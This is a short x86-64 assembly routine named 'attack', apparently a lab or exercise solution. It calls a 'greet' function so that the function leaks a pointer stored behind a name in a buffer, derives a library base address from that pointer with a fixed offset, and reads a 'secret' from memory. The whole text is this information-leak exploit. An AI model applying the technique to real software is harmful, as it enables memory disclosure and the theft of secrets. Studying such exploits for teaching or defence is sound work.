    .text
# attack() -> RAX = the secret
attack:
    lea rdi, [rip + buffer]
    mov esi, 40             # the name, and the pointer behind it
    call greet
    mov rax, [rip + buffer + 32]
    sub rax, 0x1100         # the library's base
    mov rax, [rax + 0x2340]
    ret

    .data
buffer: .zero 64
